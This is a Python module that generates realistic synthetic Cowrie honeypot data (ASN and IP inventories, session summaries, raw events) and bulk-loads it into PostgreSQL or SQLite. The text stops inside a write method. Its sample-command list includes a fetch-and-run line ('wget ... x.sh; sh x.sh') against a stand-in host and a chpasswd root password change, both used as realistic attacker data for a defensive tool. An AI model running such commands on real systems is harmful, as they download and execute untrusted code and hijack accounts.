"""Realistic synthetic data for a database at Alembic revision ``0002_snapshot_columns``.

:func:`generate` fills ``asn_inventory``, ``ip_inventory``, ``session_summaries`` and
``raw_events`` the way cowrieprocessor's loader left production before the snapshot
fix: every session has its counters, timestamps and ingest-time ``enrichment``, and the
five snapshot columns are all NULL. It serves ``cowrie-db demo-data``, ``make demo``
and the benchmarks, so it streams: rows are built and written ``chunk_size`` sessions
at a time.

What the data looks like
------------------------
* ASNs: real, well-known networks first (AS4134 CHINANET, CN, is always there and holds
  about 8% of the IPs, so ``snapshot_country = 'CN' AND snapshot_asn = 4134``
  finds rows), then synthetic ones; about ``ips / 40`` of them (at least 10) unless
  ``asns`` is set. The well-known ones hold about a quarter of the IPs.
* IPs: public IPv4 dotted quads (no private, reserved, multicast or documentation
  ranges) and ``ipv6_fraction`` of compressed lower-case IPv6 in a prefix of the
  ASN's registry. Countries are skewed (CN, US, RU, BR, IN, ...). The ``enrichment``
  JSON has the ``maxmind`` / ``cymru`` / ``dshield`` / ``spur`` / ``greynoise`` /
  ``validation`` sections of cowrieprocessor: about 90% carry ``maxmind.country``,
  5% only ``cymru.country``, 4% only ``dshield.ip.ascountry`` and 1% no country at
  all (their generated ``geo_country`` is ``'XX'``). ``ip_types`` follows the
  priority order VPN > TOR > PROXY > DATACENTER > RESIDENTIAL > MOBILE and is
  sometimes empty; ``enrichment_updated_at`` is NULL for about 0.5%.
  ``session_count``, ``first_seen`` and ``last_seen`` agree with the sessions, and
  the ASNs' ``unique_ip_count`` / ``total_session_count`` / ``first_seen`` /
  ``last_seen`` agree with their IPs.
* Sessions: each IP of the inventory gets at least one session when there are
  enough sessions; the rest are drawn with a Zipf-like law (weight ``1 / rank**0.9``),
  so the hottest IPs have thousands of sessions. Exactly
  ``round(sessions * unmatched_fraction)`` sessions use an IP that is *not* in
  ``ip_inventory``, and exactly ``round(sessions * raw_only_fraction)`` sessions have
  no ``enrichment.session_metadata.source_ip`` (their enrichment is NULL, ``{}``,
  ``{"session_metadata": {}}`` or metadata without the IP): their IP is known only
  from ``raw_events``. Both sets are drawn at random (selection sampling), independently.
  Sessions start during 2025 in time order, as the loader ingests them (Poisson-like
  arrivals; log-normal durations, median ~20 s); their counters come from scanner,
  brute-force, bot and interactive profiles; ``matcher`` is the protocol
  (``ssh``/``telnet``); ``source_files`` names the day's Cowrie log file(s).
* raw_events: each raw-only session has 1-4 events, about 5% of the others 1-3; all
  of a session's events carry its ``src_ip``, the earliest one is always
  ``cowrie.session.connect`` at the session's ``first_event_at``, and for about 10%
  of the multi-event sessions the rows are written out of timestamp order (as when
  log files are ingested out of order), so "earliest" must be decided by
  ``event_timestamp``, not by ``id``. ``payload_hash`` is the SHA-256 of the payload
  text as generated (compact JSON, sorted keys; that is the exact text stored on
  SQLite).

Determinism
-----------
Everything comes from ``random.Random`` instances seeded with strings derived from
``spec.seed`` (string seeds are hashed with SHA-512, so they do not depend on
``PYTHONHASHSEED``) and every timestamp, ``created_at`` / ``updated_at`` /
``ingest_at`` included, is an offset from 2025-01-01T00:00:00Z. The same spec on an
empty database therefore gives byte-identical rows (``raw_events.id`` included, as
long as the id sequence starts fresh); ``chunk_size`` changes no value, only the
physical order of ``session_summaries`` rows (each chunk is written sorted by id).
Session ids are 12 lower-case hex digits: a counter passed through a 48-bit
bijective mixer keyed from the seeded RNG, so they look random but can never repeat
within a run; IPs come from a keyed 32-bit (IPv4) or 64-bit (IPv6 interface id)
bijection the same way, and the unmatched sessions' IPs are later values of the
same bijections, so never inventory IPs.

Existing rows (``force=True``)
------------------------------
Without ``force`` a database whose ``session_summaries`` has rows is refused. With
it, nothing is deleted or updated: the new rows are added on top. When any of the
three tables has rows, every random stream is salted with their row counts, so a
second run with the same seed draws new keys rather than the first run's. Keys can
never collide anyway: every generated key (session id, IP address, ASN number) that
already exists in its table is *skipped* and the next one of the same stream taken
(one lookup per chunk, only for a table that had rows at the start). So the new
sessions and IPs number exactly what the spec says, and the result is deterministic
for a given seed and starting database. An ASN that exists already is reused as it
is (its statistics are not updated) and not counted in ``DemoResult.asns``. Not
checked: the IPs that existing *unmatched* sessions use (they are in no table of
their own); a new inventory IP equal to one of them is possible, though unlikely.

Target schema
-------------
Besides our own schema (``alembic upgrade 0002_snapshot_columns`` or later), the
generator fills a database built by upstream cowrieprocessor's schema code (see
/work/shared/reference/upstream-schema.md): the catalog is read once at the start,
columns the target computes itself (GENERATED, e.g. upstream's
``ip_inventory.is_scanner`` / ``is_bogon``) are left out of the rows, and ``json``
columns take the same JSON text as ``jsonb`` ones. On our own schema nothing is left
out, so the rows are the same bytes as before.

Transactions, speed and memory
------------------------------
PostgreSQL: one transaction for the whole run, so a failure leaves nothing behind.
Rows go in with ``COPY ... FROM STDIN`` (text format, psycopg2) on a thread of its
own, so the server loads one chunk while the next is generated. SQLite: one
``BEGIN IMMEDIATE`` transaction per chunk with ``executemany``; a failure leaves the
chunks already committed, so start again on a fresh file. SQLite's automatic WAL
checkpoints are held back during the run (each would copy the same randomly keyed
index pages again) and done once at the end: the WAL grows to about the size of the
new data meanwhile. Memory grows with the number of IPs (their strings and a few
arrays, ~200 bytes each), never with the number of sessions.
"""

from __future__ import annotations

import dataclasses
import functools
import hashlib
import ipaddress
import itertools
import json
import math
import queue
import random
import statistics
import threading
import time
from array import array
from collections.abc import Callable, Iterator, Sequence
from contextlib import AbstractContextManager, contextmanager, nullcontext
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any

import sqlalchemy as sa
from sqlalchemy import Connection, Engine

from cowrieprocessor.db.models import SNAPSHOT_COLUMNS
from cowrieprocessor.errors import CowrieError

__all__ = ["DemoDataError", "DemoResult", "DemoSpec", "generate"]

Row = tuple[object, ...]


@dataclass(frozen=True)
class DemoSpec:
    """What to generate: ``sessions`` sessions over ``ips`` inventory IPs."""

    sessions: int
    ips: int
    seed: int = 1
    unmatched_fraction: float = 0.013  # sessions whose canonical IP is NOT in ip_inventory
    ipv6_fraction: float = 0.05  # of inventory IPs
    raw_only_fraction: float = 0.02  # sessions whose IP is known only from raw_events
    asns: int = 0  # 0 = derive (about ips/40, at least 10)


@dataclass
class DemoResult:
    """What was written (new rows only) and how long it took."""

    sessions: int
    ips: int
    asns: int
    raw_events: int
    unmatched_sessions: int
    raw_only_sessions: int
    seconds: float


class DemoDataError(CowrieError):
    """The database or the spec is unsuitable; the message says why and what to do."""


# --- time: integer microseconds after 2025-01-01T00:00:00Z ------------------------------

_EPOCH = datetime(2025, 1, 1)
_SECOND = 1_000_000
_DAY = 86_400 * _SECOND
_WINDOW = 365 * _DAY  # sessions start during 2025
_DAYS = tuple((_EPOCH + timedelta(days=d)).strftime("%Y-%m-%d") for d in range(1000))


@functools.cache
def _clock() -> tuple[str, ...]:
    """``HH:MM:SS`` of every second of a day (formatting by lookup is ~4x faster)."""
    return tuple(
        f"{h:02d}:{m:02d}:{s:02d}" for h in range(24) for m in range(60) for s in range(60)
    )


def _day(us: int) -> str:
    return _DAYS[us // _DAY]


def _cowrie_ts(us: int) -> str:
    """Cowrie's own timestamp format: ``2025-03-04T12:34:56.123456Z``."""
    day, rest = divmod(us, _DAY)
    second, micro = divmod(rest, _SECOND)
    return f"{_DAYS[day]}T{_clock()[second]}.{micro:06d}Z"


class _Format:
    """How a value is spelled for the dialect (COPY csv on PostgreSQL, sqlite3 parameters)."""

    def __init__(self, dialect: str) -> None:
        self.pg = dialect == "postgresql"
        self.true: object = "t" if self.pg else 1
        self.false: object = "f" if self.pg else 0
        # SQLite: SQLAlchemy's DateTime storage format; PostgreSQL: timestamptz in UTC.
        self._suffix = "+00" if self.pg else ""
        self._clock = _clock()

    def ts(self, us: int | None) -> str | None:
        if us is None:
            return None
        day, rest = divmod(us, _DAY)
        second, micro = divmod(rest, _SECOND)
        return f"{_DAYS[day]} {self._clock[second]}.{micro:06d}{self._suffix}"

    def flag(self, value: bool) -> object:
        return self.true if value else self.false

    def ip_types(self, types: list[str]) -> str:
        if self.pg:  # text[] literal; the names need no quoting
            return "{" + ",".join(types) + "}"
        return "[" + ",".join(f'"{t}"' for t in types) + "]"


_SORTED_JSON = json.JSONEncoder(separators=(",", ":"), sort_keys=True)
_JSON = json.JSONEncoder(separators=(",", ":"))


# --- reference data --------------------------------------------------------------------
# Hot rows are assembled from f-string templates (ten times faster than json.dumps);
# every free-text value that goes into them is JSON-encoded once, here or per ASN.

# fmt: off
# code, name, capital, weight (share of attack sources), registry, latitude, longitude
_COUNTRIES: tuple[tuple[str, str, str, float, str, float, float], ...] = (
    ("CN", "China", "Beijing", 18.0, "APNIC", 35.0, 105.0),
    ("US", "United States", "Ashburn", 16.0, "ARIN", 39.8, -98.6),
    ("RU", "Russia", "Moscow", 7.0, "RIPE", 61.5, 105.3),
    ("BR", "Brazil", "Sao Paulo", 6.0, "LACNIC", -14.2, -51.9),
    ("IN", "India", "Mumbai", 6.0, "APNIC", 20.6, 79.0),
    ("DE", "Germany", "Frankfurt am Main", 4.0, "RIPE", 51.2, 10.5),
    ("KR", "South Korea", "Seoul", 4.0, "APNIC", 35.9, 127.8),
    ("VN", "Vietnam", "Hanoi", 4.0, "APNIC", 14.1, 108.3),
    ("NL", "Netherlands", "Amsterdam", 3.0, "RIPE", 52.1, 5.3),
    ("SG", "Singapore", "Singapore", 3.0, "APNIC", 1.35, 103.8),
    ("FR", "France", "Paris", 3.0, "RIPE", 46.2, 2.2),
    ("GB", "United Kingdom", "London", 2.5, "RIPE", 55.4, -3.4),
    ("ID", "Indonesia", "Jakarta", 2.5, "APNIC", -0.8, 113.9),
    ("TW", "Taiwan", "Taipei", 2.0, "APNIC", 23.7, 121.0),
    ("HK", "Hong Kong", "Hong Kong", 2.0, "APNIC", 22.3, 114.2),
    ("JP", "Japan", "Tokyo", 2.0, "APNIC", 36.2, 138.3),
    ("IR", "Iran", "Tehran", 1.5, "RIPE", 32.4, 53.7),
    ("UA", "Ukraine", "Kyiv", 1.5, "RIPE", 48.4, 31.2),
    ("TR", "Turkey", "Istanbul", 1.5, "RIPE", 39.0, 35.2),
    ("CA", "Canada", "Toronto", 1.5, "ARIN", 56.1, -106.3),
    ("AR", "Argentina", "Buenos Aires", 1.0, "LACNIC", -38.4, -63.6),
    ("MX", "Mexico", "Mexico City", 1.0, "LACNIC", 23.6, -102.6),
    ("TH", "Thailand", "Bangkok", 1.0, "APNIC", 15.9, 100.9),
    ("PK", "Pakistan", "Karachi", 1.0, "APNIC", 30.4, 69.3),
    ("BD", "Bangladesh", "Dhaka", 1.0, "APNIC", 23.7, 90.4),
    ("IT", "Italy", "Milan", 1.0, "RIPE", 41.9, 12.6),
    ("ES", "Spain", "Madrid", 1.0, "RIPE", 40.5, -3.7),
    ("PL", "Poland", "Warsaw", 1.0, "RIPE", 51.9, 19.1),
    ("RO", "Romania", "Bucharest", 1.0, "RIPE", 45.9, 25.0),
    ("EG", "Egypt", "Cairo", 1.0, "AFRINIC", 26.8, 30.8),
    ("ZA", "South Africa", "Johannesburg", 1.0, "AFRINIC", -30.6, 22.9),
    ("CO", "Colombia", "Bogota", 0.7, "LACNIC", 4.6, -74.3),
    ("CL", "Chile", "Santiago", 0.5, "LACNIC", -35.7, -71.5),
    ("NG", "Nigeria", "Lagos", 0.5, "AFRINIC", 9.1, 8.7),
    ("KE", "Kenya", "Nairobi", 0.5, "AFRINIC", -0.02, 37.9),
    ("SC", "Seychelles", "Victoria", 0.3, "AFRINIC", -4.7, 55.5),
)

# number, organization, country, kind, weight (relative share of the inventory's IPs)
_KNOWN_ASNS: tuple[tuple[int, str, str, str, float], ...] = (
    (4134, "CHINANET-BACKBONE No.31,Jin-rong Street", "CN", "isp", 40.0),
    (14061, "DIGITALOCEAN-ASN", "US", "hosting", 14.0),
    (4837, "CHINA169-BACKBONE CHINA UNICOM China169 Backbone", "CN", "isp", 12.0),
    (16509, "AMAZON-02", "US", "hosting", 9.0),
    (45090, "TENCENT-NET-AP Shenzhen Tencent Computer Systems Company Limited", "CN", "hosting",
     7.0),
    (37963, "ALIBABA-CN-NET Hangzhou Alibaba Advertising Co.,Ltd.", "CN", "hosting", 7.0),
    (9808, "CHINAMOBILE-CN China Mobile Communications Group Co., Ltd.", "CN", "mobile", 6.0),
    (396982, "GOOGLE-CLOUD-PLATFORM", "US", "hosting", 6.0),
    (12389, "ROSTELECOM-AS PJSC Rostelecom", "RU", "isp", 5.0),
    (8075, "MICROSOFT-CORP-MSN-AS-BLOCK", "US", "hosting", 5.0),
    (132203, "TENCENT-NET-AP-CN Tencent Building, Kejizhongyi Avenue", "CN", "hosting", 4.0),
    (63949, "AKAMAI-LINODE-AP Akamai Connected Cloud", "US", "hosting", 4.0),
    (20473, "AS-VULTR", "US", "hosting", 4.0),
    (16276, "OVH", "FR", "hosting", 4.0),
    (24940, "HETZNER-AS", "DE", "hosting", 4.0),
    (4766, "KIXS-AS-KR Korea Telecom", "KR", "isp", 4.0),
    (4812, "CHINANET-SH-AP China Telecom (Group)", "CN", "isp", 3.0),
    (28573, "Claro NXT Telecomunicacoes Ltda", "BR", "isp", 3.0),
    (18881, "TELEFONICA BRASIL S.A", "BR", "isp", 3.0),
    (9829, "BSNL-NIB National Internet Backbone", "IN", "isp", 3.0),
    (24560, "AIRTELBROADBAND-AS-AP Bharti Airtel Ltd., Telemedia Services", "IN", "isp", 3.0),
    (55836, "RELIANCEJIO-IN Reliance Jio Infocomm Limited", "IN", "mobile", 3.0),
    (7552, "VIETEL-AS-AP Viettel Group", "VN", "isp", 3.0),
    (45899, "VNPT-AS-VN VNPT Corp", "VN", "isp", 3.0),
    (49505, "SELECTEL", "RU", "hosting", 3.0),
    (51167, "CONTABO", "DE", "hosting", 3.0),
    (14618, "AMAZON-AES", "US", "hosting", 3.0),
    (8359, "MTS PJSC MTS", "RU", "mobile", 2.0),
    (9318, "SKB-AS SK Broadband Co Ltd", "KR", "isp", 2.0),
    (9009, "M247", "GB", "hosting", 2.0),
    (202425, "INT-NETWORK", "SC", "hosting", 2.0),
    (17974, "TELKOMNET-AS2-AP PT Telekomunikasi Indonesia", "ID", "isp", 2.0),
    (3462, "HINET Data Communication Business Group", "TW", "isp", 2.0),
    (36352, "AS-COLOCROSSING", "US", "hosting", 2.0),
    (135377, "UCLOUD-HK-AS-AP UCLOUD INFORMATION TECHNOLOGY HK LIMITED", "HK", "hosting", 2.0),
    (7922, "COMCAST-7922", "US", "isp", 1.5),
    (4713, "OCN NTT Communications Corporation", "JP", "isp", 1.0),
    (4760, "HKTIMS-AP HKT Limited", "HK", "isp", 1.0),
    (58224, "TCI", "IR", "isp", 1.0),
    (9121, "TTNET", "TR", "isp", 1.0),
    (3320, "DTAG Internet service provider operations", "DE", "isp", 1.0),
)

_NAME_HEADS = ("Nord", "Blue", "Star", "Pacific", "Atlas", "Delta", "Sky", "Iron", "Silver",
               "Green", "Terra", "Nova", "Metro", "Prime", "Rapid", "Orion", "Aurora", "Vertex",
               "Quantum", "Coral", "Summit", "Falcon", "Harbor", "Zenith")
_NAME_TAILS = ("net", "link", "line", "wave", "com", "host", "cloud", "tel", "fiber", "data",
               "web", "core")
_KIND_WORDS = {
    "hosting": ("Hosting", "Cloud", "Datacenter", "Servers"),
    "isp": ("Telecom", "Broadband", "Internet", "Communications"),
    "mobile": ("Mobile", "Wireless", "Cellular"),
    "business": ("Networks", "Solutions", "Systems"),
    "education": ("University", "Research Network", "Academic Network"),
}
_SUFFIXES = ("Ltd", "LLC", "Inc.", "GmbH", "S.A.", "Co., Ltd.", "B.V.", "JSC", "")
_KINDS = ("hosting", "isp", "business", "mobile", "education")
_KIND_CUM = tuple(itertools.accumulate((45.0, 38.0, 10.0, 5.0, 2.0)))

# the first 16 bits of IPv6 prefixes handed out by each registry
_V6_PREFIX16 = {
    "APNIC": (0x2400, 0x2401, 0x2402, 0x2403, 0x2404, 0x2405, 0x2406, 0x2407, 0x240E),
    "ARIN": (0x2600, 0x2602, 0x2603, 0x2604, 0x2605, 0x2606, 0x2607, 0x2620),
    "RIPE": (0x2A00, 0x2A01, 0x2A02, 0x2A03, 0x2A05, 0x2A06, 0x2A0E, 0x2001),
    "LACNIC": (0x2800, 0x2801, 0x2803, 0x2804),
    "AFRINIC": (0x2C0F, 0x2C0E, 0x2001),
}

_IP_TYPE_ORDER = ("VPN", "TOR", "PROXY", "DATACENTER", "RESIDENTIAL", "MOBILE")
_VPN_OPERATORS = ("NordVPN", "Mullvad", "ExpressVPN", "PROTON_VPN", "SURFSHARK_VPN")
_SENSORS = ("honeypot-sg-01", "honeypot-fra-01", "honeypot-nyc-02", "honeypot-syd-01",
            "honeypot-gru-01", "honeypot-blr-01", "honeypot-ams-03", "honeypot-tyo-01")
_SSH_CLIENTS = ("SSH-2.0-Go", "SSH-2.0-libssh_0.9.6", "SSH-2.0-libssh2_1.10.0",
                "SSH-2.0-OpenSSH_8.9p1", "SSH-2.0-PuTTY_Release_0.78", "SSH-2.0-paramiko_3.4.0",
                "SSH-2.0-ZGrab ZGrab SSH Survey", "SSH-2.0-OpenSSH_7.4")
_USERNAMES = ("root", "admin", "ubuntu", "user", "test", "oracle", "postgres", "pi", "git")
_PASSWORDS = ("123456", "admin", "password", "root", "1234", "12345678", "qwerty", "raspberry")
_COMMANDS = ("uname -a", "cat /proc/cpuinfo | grep name | wc -l", "whoami", "ls -la /tmp",
             "cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh", "free -m", "nproc",
             'echo "root:Xk2p9q" | chpasswd', "crontab -l", "cat /etc/issue")
_MIDDLE_EVENTS = ("cowrie.client.version", "cowrie.client.kex", "cowrie.login.failed",
                  "cowrie.login.success", "cowrie.command.input")
_DSHIELD_ERRORS = ('"dshield":{"error":"timeout"}', '"dshield":{"error":"rate limited"}',
                   '"dshield":{"error":"HTTP 502"}')
_URLHAUS = (',"urlhaus":"malware_download"', ',"urlhaus":""')
_LOG_DIR = "/var/log/cowrie/cowrie.json."
# fmt: on

_COUNTRY_INDEX = {c[0]: i for i, c in enumerate(_COUNTRIES)}
_COUNTRY_CUM = tuple(itertools.accumulate(c[3] for c in _COUNTRIES))
_COUNTRY_RANGE = range(len(_COUNTRIES))

# --- keyed bijections: unique, random-looking keys in O(1) memory ---------------------

_M32 = (1 << 32) - 1
_M48 = (1 << 48) - 1
_M64 = (1 << 64) - 1


def _mix32(x: int, k1: int, k2: int) -> int:
    x = (x ^ k1) & _M32
    x = ((x ^ (x >> 16)) * 0x45D9F3B) & _M32
    x = ((x ^ (x >> 16)) * 0x2C1B3C6D) & _M32
    x ^= x >> 15
    return (x + k2) & _M32


def _mix48(x: int, k1: int, k2: int) -> int:
    x = (x ^ k1) & _M48
    x = ((x ^ (x >> 23)) * 0xFF51AFD7ED55) & _M48
    x = ((x ^ (x >> 21)) * 0xC4CEB9FE1A85) & _M48
    x ^= x >> 24
    return (x + k2) & _M48


def _mix64(x: int, k1: int, k2: int) -> int:
    x = (x ^ k1) & _M64
    x = ((x ^ (x >> 30)) * 0xBF58476D1CE4E5B9) & _M64
    x = ((x ^ (x >> 27)) * 0x94D049BB133111EB) & _M64
    x ^= x >> 31
    return (x + k2) & _M64


_BOGON_FIRST_OCTETS = frozenset({0, 10, 127, *range(224, 256)})
_BOGON_16 = frozenset({(169 << 8) | 254, (192 << 8) | 168})
_BOGON_24 = frozenset({(192 << 16) | 0, (192 << 16) | 2, (198 << 16) | (51 << 8) | 100,
                       (203 << 16) | 113})  # fmt: skip


def _is_bogon(x: int) -> bool:
    """Private, shared, loopback, link-local, benchmark, documentation, multicast, ..."""
    return (
        (x >> 24) in _BOGON_FIRST_OCTETS
        or (x >> 16) in _BOGON_16
        or (x >> 20) == (172 << 4) | 1  # 172.16.0.0/12
        or (x >> 22) == (100 << 2) | 1  # 100.64.0.0/10
        or (x >> 17) == (198 << 7) | 9  # 198.18.0.0/15
        or (x >> 8) in _BOGON_24
    )


class _IpStream:
    """Distinct public IPs: a counter through a keyed bijection (bogons skipped)."""

    def __init__(self, rng: random.Random) -> None:
        self._k32 = (rng.getrandbits(32), rng.getrandbits(32))
        self._k64 = (rng.getrandbits(64), rng.getrandbits(64))
        self._v4 = 0
        self._v6 = 0

    def v4(self) -> str:
        while True:
            x = _mix32(self._v4, *self._k32)
            self._v4 += 1
            if not _is_bogon(x):
                return f"{x >> 24}.{(x >> 16) & 255}.{(x >> 8) & 255}.{x & 255}"

    def v6(self, registry: str) -> str:
        # Unique through the interface id alone (a bijection of the counter); the
        # prefix only makes the address look like one of the registry's.
        iid = _mix64(self._v6, *self._k64)
        self._v6 += 1
        prefixes = _V6_PREFIX16[registry]
        top = prefixes[iid % len(prefixes)]
        net = (iid >> 13) & 0xFFFF_FFFF_FFFF
        return ipaddress.IPv6Address((top << 112) | (net << 64) | iid).compressed


def _prefix(ip: str) -> str:
    """The announced prefix an IP sits in, as the enrichment sources report it."""
    if ":" in ip:
        return str(ipaddress.IPv6Network(f"{ip}/32", strict=False))
    return ip.rsplit(".", 2)[0] + ".0.0/16"


# --- database access ------------------------------------------------------------------


@dataclass(frozen=True)
class _Table:
    """Where the rows of one table go: its name and the columns of a row, in order."""

    name: str
    columns: tuple[str, ...]
    keep: tuple[int, ...] | None = None  # the row positions written (None: all of them)

    @property
    def copy_sql(self) -> str:
        return f"COPY {self.name} ({', '.join(self.columns)}) FROM STDIN"

    @property
    def insert_sql(self) -> str:
        marks = ", ".join("?" * len(self.columns))
        # the names are this module's constants; the values go in as parameters
        return f"INSERT INTO {self.name} ({', '.join(self.columns)}) VALUES ({marks})"  # noqa: S608

    def without(self, generated: set[str]) -> _Table:
        """This table minus the target's GENERATED columns (it computes them itself)."""
        keep = tuple(i for i, c in enumerate(self.columns) if c not in generated)
        if len(keep) == len(self.columns):
            return self
        return _Table(self.name, tuple(self.columns[i] for i in keep), keep)


_ASN_TABLE = _Table(
    "asn_inventory",
    (
        "asn_number", "organization_name", "organization_country", "rir_registry", "asn_type",
        "first_seen", "last_seen", "unique_ip_count", "total_session_count", "enrichment",
        "enrichment_updated_at", "created_at", "updated_at",
    ),
)  # fmt: skip
_IP_TABLE = _Table(
    "ip_inventory",
    (
        "ip_address", "current_asn", "asn_last_verified", "first_seen", "last_seen",
        "session_count", "enrichment", "enrichment_updated_at", "enrichment_version",
        "ip_types", "is_scanner", "is_bogon", "created_at", "updated_at",
    ),
)  # fmt: skip
_SESSION_TABLE = _Table(
    "session_summaries",
    (
        "session_id", "first_event_at", "last_event_at", "event_count", "command_count",
        "file_downloads", "login_attempts", "ssh_key_injections", "unique_ssh_keys",
        "vt_flagged", "dshield_flagged", "risk_score", "matcher", "source_files", "enrichment",
        "created_at", "updated_at",
    ),
)  # fmt: skip
_EVENT_TABLE = _Table(
    "raw_events",
    (
        "ingest_id", "ingest_at", "source", "source_offset", "payload", "payload_hash",
        "session_id", "event_type", "event_timestamp",
    ),
)  # fmt: skip
_TABLES = (_ASN_TABLE, _IP_TABLE, _SESSION_TABLE, _EVENT_TABLE)

# Which of the given keys exist already: one parameter (an array on PostgreSQL, a JSON
# array on SQLite) however many keys there are.
_EXISTING_SQL = {
    ("postgresql", "session"): (
        "SELECT session_id FROM session_summaries WHERE session_id = ANY(:keys)"
    ),
    ("sqlite", "session"): (
        "SELECT session_id FROM session_summaries "
        "WHERE session_id IN (SELECT value FROM json_each(:keys))"
    ),
    ("postgresql", "ip"): "SELECT ip_address FROM ip_inventory WHERE ip_address = ANY(:keys)",
    ("sqlite", "ip"): (
        "SELECT ip_address FROM ip_inventory "
        "WHERE ip_address IN (SELECT value FROM json_each(:keys))"
    ),
    ("postgresql", "asn"): "SELECT asn_number FROM asn_inventory WHERE asn_number = ANY(:keys)",
    ("sqlite", "asn"): (
        "SELECT asn_number FROM asn_inventory "
        "WHERE asn_number IN (SELECT value FROM json_each(:keys))"
    ),
}
_COUNT_SQL = (
    "SELECT (SELECT count(*) FROM session_summaries), (SELECT count(*) FROM ip_inventory), "
    "(SELECT count(*) FROM asn_inventory)"
)
_REQUIRED_TABLES = ("asn_inventory", "ip_inventory", "session_summaries", "raw_events")


_NUL = "\x00"  # stands for NULL while a COPY buffer is built; never part of a value


def _copy_text(rows: Sequence[Row], columns: int) -> bytes:
    """Rows in COPY's text format: tab-separated, ``\\N`` for NULL, backslashes doubled.

    The values never hold a tab, a newline or a NUL (JSON escapes control characters,
    and every other value is ours), which the counts below check: a bug surfaces as an
    error here, not as shifted columns in the database.
    """
    lines = ["\t".join([_NUL if v is None else str(v) for v in row]) for row in rows]
    data = "\n".join(lines) + "\n"
    if data.count("\t") != (columns - 1) * len(rows) or data.count("\n") != len(rows):
        raise DemoDataError("internal error: a generated value holds a tab or a newline")
    if "\\" in data:
        data = data.replace("\\", "\\\\")
    return data.replace(_NUL, "\\N").encode()


class _ReadOnce:
    """A file whose first read() returns the whole buffer (no copy), the next ones b""."""

    def __init__(self, data: bytes) -> None:
        self._data = data

    def read(self, _size: int = -1) -> bytes:
        data, self._data = self._data, b""
        return data


class _CopyThread:
    """Runs the COPYs on a thread of its own while the next chunk is generated.

    psycopg2 releases the GIL while libpq sends the data and while the server works
    through it, so generating (Python) and loading (the server) overlap on two cores.
    At most two chunks wait in the queue, so memory stays flat. The first error stops
    the loading and is raised in the generating thread.
    """

    def __init__(self, driver: Any) -> None:
        self._driver = driver
        self._queue: queue.Queue[tuple[str, bytes] | None] = queue.Queue(maxsize=2)
        self._error: BaseException | None = None
        self._discard = False
        self._thread = threading.Thread(target=self._run, name="demo-data-copy", daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while True:
            item = self._queue.get()
            try:
                if item is None:
                    return
                if self._error is None and not self._discard:
                    sql, data = item
                    cursor = self._driver.cursor()
                    try:  # one read() takes the whole buffer: the GIL is needed once
                        cursor.copy_expert(sql, _ReadOnce(data), size=len(data) + 1)
                    finally:
                        cursor.close()
            except BaseException as exc:  # handed over to the generating thread
                self._error = exc
            finally:
                self._queue.task_done()

    def _raise(self) -> None:
        if self._error is not None:
            raise self._error

    def put(self, sql: str, data: bytes) -> None:
        self._raise()
        self._queue.put((sql, data))

    def flush(self) -> None:
        """Wait until every queued COPY is done (and raise its error, if any)."""
        self._queue.join()
        self._raise()

    def close(self, *, discard: bool = False) -> None:
        """Stop the thread; with ``discard`` (the load failed) skip what is still queued."""
        self._discard = discard
        self._queue.put(None)
        self._thread.join()


# Every column of the four tables, and whether the database computes it (GENERATED).
_COLUMNS_SQL = {
    "postgresql": (
        "SELECT t.name, a.attname, a.attgenerated <> '' "
        "FROM unnest(CAST(:tables AS text[])) AS t(name) "
        "JOIN pg_attribute a ON a.attrelid = to_regclass(t.name) "
        "WHERE a.attnum > 0 AND NOT a.attisdropped"
    ),
    "sqlite": (
        "SELECT t.value, x.name, x.hidden IN (2, 3) "
        "FROM json_each(:tables) AS t, pragma_table_xinfo(t.value) AS x"
    ),
}


def _target_tables(conn: Connection, dialect: str) -> dict[str, _Table]:
    """Each table as the target database has it: the columns it generates itself are
    left out (upstream's schema makes ``ip_inventory.is_scanner`` / ``is_bogon``
    GENERATED, ours does not); a column it lacks altogether is an error."""
    names = [t.name for t in _TABLES]
    param: object = names if dialect == "postgresql" else _JSON.encode(names)
    found: dict[str, dict[str, bool]] = {name: {} for name in names}
    for table, column, generated in conn.execute(sa.text(_COLUMNS_SQL[dialect]), {"tables": param}):
        found[table][column] = bool(generated)
    adapted: dict[str, _Table] = {}
    for table in _TABLES:
        lacking = [c for c in table.columns if c not in found[table.name]]
        if lacking:
            raise DemoDataError(
                f"{table.name} has no {', '.join(lacking)} column(s): demo data needs the "
                "schema of Alembic revision 0002_snapshot_columns or later"
            )
        adapted[table.name] = table.without({c for c, g in found[table.name].items() if g})
    return adapted


class _Sink:
    """Writes rows through the driver: COPY on PostgreSQL, executemany on SQLite."""

    def __init__(self, conn: Connection, dialect: str, tables: dict[str, _Table]) -> None:
        self.conn = conn
        self.dialect = dialect
        self.pg = dialect == "postgresql"
        self.tables = tables
        driver = conn.connection.driver_connection
        if driver is None:
            raise DemoDataError("the connection has no DBAPI connection to write through")
        self.driver: Any = driver
        self.copier: _CopyThread | None = None
        if self.pg:
            cursor = self.driver.cursor()
            try:
                copies = hasattr(cursor, "copy_expert")
            finally:
                cursor.close()
            if not copies:
                raise DemoDataError(
                    "demo data is loaded into PostgreSQL with COPY through psycopg2: "
                    "use a postgresql+psycopg2:// URL"
                )

    @contextmanager
    def run(self) -> Iterator[None]:
        """The whole load.

        PostgreSQL: one transaction, the COPYs on their own thread. SQLite: the WAL is
        checkpointed once, at the end; otherwise SQLite would checkpoint every ~4 MB,
        copying the same (randomly keyed) index pages to the database file again and
        again. The WAL grows to about the size of the new data meanwhile.
        """
        if self.pg:
            with self.conn.begin():
                copier = self.copier = _CopyThread(self.driver)
                try:
                    yield
                    copier.flush()
                except BaseException:
                    copier.close(discard=True)
                    raise
                finally:
                    self.copier = None
                copier.close()
            return
        previous = int(self.driver.execute("PRAGMA wal_autocheckpoint").fetchone()[0])
        self.driver.execute("PRAGMA wal_autocheckpoint = 0")
        try:
            yield
        finally:
            self.driver.execute(f"PRAGMA wal_autocheckpoint = {previous}")
            self.driver.execute("PRAGMA wal_checkpoint(TRUNCATE)").fetchall()

    def chunk(self) -> AbstractContextManager[object]:
        """The transaction of one chunk: SQLite commits each chunk, PostgreSQL the run."""
        if self.pg:
            return nullcontext()
        return self.conn.begin()

    def write(self, table: _Table, rows: Sequence[Row]) -> None:
        if not rows:
            return
        table = self.tables[table.name]
        if table.keep is not None:
            keep = table.keep
            rows = [tuple(row[i] for i in keep) for row in rows]
        if self.copier is not None:
            self.copier.put(table.copy_sql, _copy_text(rows, len(table.columns)))
            return
        cursor = self.driver.cursor()
        try:
            cursor.executemany(table.insert_sql, rows)
